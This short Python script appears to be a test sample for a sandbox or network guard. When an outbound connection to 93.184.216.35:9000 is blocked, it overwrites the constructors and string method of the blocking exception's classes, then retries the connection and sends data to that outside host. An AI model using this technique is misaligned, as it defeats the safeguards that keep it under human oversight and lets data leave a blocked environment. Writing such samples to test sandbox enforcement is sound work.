"""The violation's class is changed so that raising it fails or means nothing."""
import socket

try:
    socket.socket().connect(("93.184.216.35", 9000))
except OSError as error:
    for kind in type(error).__mro__:
        for name, value in (("__init__", lambda *_, **__: None), ("__new__", lambda *_, **__: None), ("__str__", lambda self: "")):
            try:
                setattr(kind, name, value)
            except TypeError:
                pass
try:
    client = socket.socket()
    client.connect(("93.184.216.35", 9000))
    client.sendall(b"data")
except BaseException:
    print("refused")
